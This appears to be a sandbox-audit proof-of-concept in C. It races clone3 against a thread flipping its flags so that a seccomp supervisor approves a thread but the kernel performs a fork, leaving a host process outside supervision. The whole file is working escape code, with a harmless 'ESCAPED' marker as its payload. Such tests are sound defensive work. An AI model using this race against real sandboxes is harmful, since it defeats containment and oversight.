/*
 * Confinement, finding 1 (run only in the sandbox): the clone3 TOCTOU. One
 * thread calls clone3 with thread flags over and over while another flips
 * clone_args.flags between the thread flags and 0. A server that reads the
 * flags, decides "thread" and lets the host kernel run the call (seccomp's
 * CONTINUE) has the kernel read them again: flags 0 make it a fork, a host
 * process outside the sandbox's supervision.
 *
 * Each child (the clone returned 0 in it) waits up to 200 ms for the parent to
 * acknowledge it through shared memory: a thread sees the acknowledgement and
 * exits; a forked copy never does (its memory is its own), so it writes
 * "ESCAPED" and stays alive for 20 s, for the test to find it on the host.
 * The child runs only system calls, never the stack (a thread child shares it).
 *
 * argv[1]: seconds to race (default 2). Prints
 * "attempts=N created=C enosys=E other=O forks=F" (F: children that did not
 * share this memory; it stops at 3) and exits 0.
 */
#include <errno.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define CLONE_VM 0x100
#define CLONE_FS 0x200
#define CLONE_FILES 0x400
#define CLONE_SIGHAND 0x800
#define CLONE_THREAD 0x10000
#define CLONE_SYSVSEM 0x40000
#define THREAD_FLAGS (CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM)

struct clone_args_v0 {
  uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls;
};

static struct clone_args_v0 args __attribute__((aligned(64)));
static volatile int stop;
/* The last generation a child announced (futex word): the parent sees it only from a thread. */
int seen;
/* The generation the parent acknowledged (futex word); a thread child waits for its own. */
int ack;
/* A word nobody wakes: the escaped copy's 20 s wait. */
int never;
const struct timespec ten_ms = {0, 10 * 1000 * 1000};
const struct timespec twenty_s = {20, 0};
const char escaped[] = "ESCAPED\n";

/*
 * clone3(&args, 64) with the generation in r12 (callee-saved, so the child
 * has it too). The child's code: seen = r12 and a futex wake; then up to 20
 * futex waits of 10 ms for ack >= r12, then exit(0); without the
 * acknowledgement write "ESCAPED", wait 20 s, exit.
 */
static long clone3_gen(int gen) {
  long ret;
  register long r12 __asm__("r12") = gen;
  __asm__ volatile(
      "mov $435, %%eax\n\t"
      "syscall\n\t"
      "test %%rax, %%rax\n\t"
      "jnz 9f\n\t"
      /* child */
      "mov %%r12d, seen(%%rip)\n\t"
      "mov $202, %%eax\n\t"
      "lea seen(%%rip), %%rdi\n\t"
      "mov $1, %%esi\n\t"
      "mov $0x7fffffff, %%edx\n\t"
      "syscall\n\t"
      "mov $20, %%r13d\n"
      "1:\n\t"
      "mov ack(%%rip), %%edx\n\t"
      "cmp %%r12d, %%edx\n\t"
      "jge 8f\n\t"
      "mov $202, %%eax\n\t"
      "lea ack(%%rip), %%rdi\n\t"
      "xor %%esi, %%esi\n\t"
      "lea ten_ms(%%rip), %%r10\n\t"
      "xor %%r8, %%r8\n\t"
      "xor %%r9, %%r9\n\t"
      "syscall\n\t"
      "dec %%r13d\n\t"
      "jnz 1b\n\t"
      "mov $1, %%eax\n\t"
      "mov $1, %%edi\n\t"
      "lea escaped(%%rip), %%rsi\n\t"
      "mov $8, %%edx\n\t"
      "syscall\n\t"
      "mov $202, %%eax\n\t"
      "lea never(%%rip), %%rdi\n\t"
      "xor %%esi, %%esi\n\t"
      "xor %%edx, %%edx\n\t"
      "lea twenty_s(%%rip), %%r10\n\t"
      "syscall\n"
      "8:\n\t"
      "mov $60, %%eax\n\t"
      "xor %%edi, %%edi\n\t"
      "syscall\n\t"
      "hlt\n"
      "9:\n\t"
      : "=a"(ret)
      : "D"(&args), "S"(sizeof args), "r"(r12)
      : "rcx", "r11", "r13", "rdx", "r8", "r9", "r10", "memory");
  return ret;
}

/* Half of the time thread flags, half of the time 0, in periods of a few microseconds. */
static void *flipper(void *unused) {
  (void)unused;
  for (unsigned i = 0; !stop; i++) {
    args.flags = (i & 1) ? 0 : THREAD_FLAGS;
    for (int k = 0; k < 300; k++) __asm__ volatile("pause");
    /* Cooperative threads (kvm) switch only in system calls: yield in either state. */
    if ((i & 31) < 2) sched_yield();
  }
  return NULL;
}

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
  double seconds = argc > 1 ? atof(argv[1]) : 2;
  long attempts = 0, created = 0, enosys = 0, other = 0, forks = 0;
  args.flags = THREAD_FLAGS;
  pthread_t f;
  if (pthread_create(&f, NULL, flipper, NULL) != 0) return 2;
  double end = now() + seconds;
  for (int gen = 1; now() < end && attempts < 200000; gen++) {
    long r = clone3_gen(gen);
    attempts++;
    if (r > 0) {
      created++;
      /* A thread child announces itself in this memory; a forked copy cannot. */
      for (int i = 0; i < 50; i++) {
        int s = __atomic_load_n(&seen, __ATOMIC_SEQ_CST);
        if (s >= gen) break;
        syscall(SYS_futex, &seen, 0 /* FUTEX_WAIT */, s, &ten_ms, NULL, 0);
      }
      if (__atomic_load_n(&seen, __ATOMIC_SEQ_CST) < gen && ++forks >= 3) break;
      __atomic_store_n(&ack, gen, __ATOMIC_SEQ_CST);
      syscall(SYS_futex, &ack, 1 /* FUTEX_WAKE */, 1 << 30, NULL, NULL, 0);
    } else if (r == -ENOSYS) {
      enosys++;
    } else {
      other++;
    }
    if ((attempts & 63) == 0) sched_yield();
  }
  stop = 1;
  pthread_join(f, NULL);
  printf("attempts=%ld created=%ld enosys=%ld other=%ld forks=%ld\n", attempts, created, enosys, other, forks);
  return 0;
}
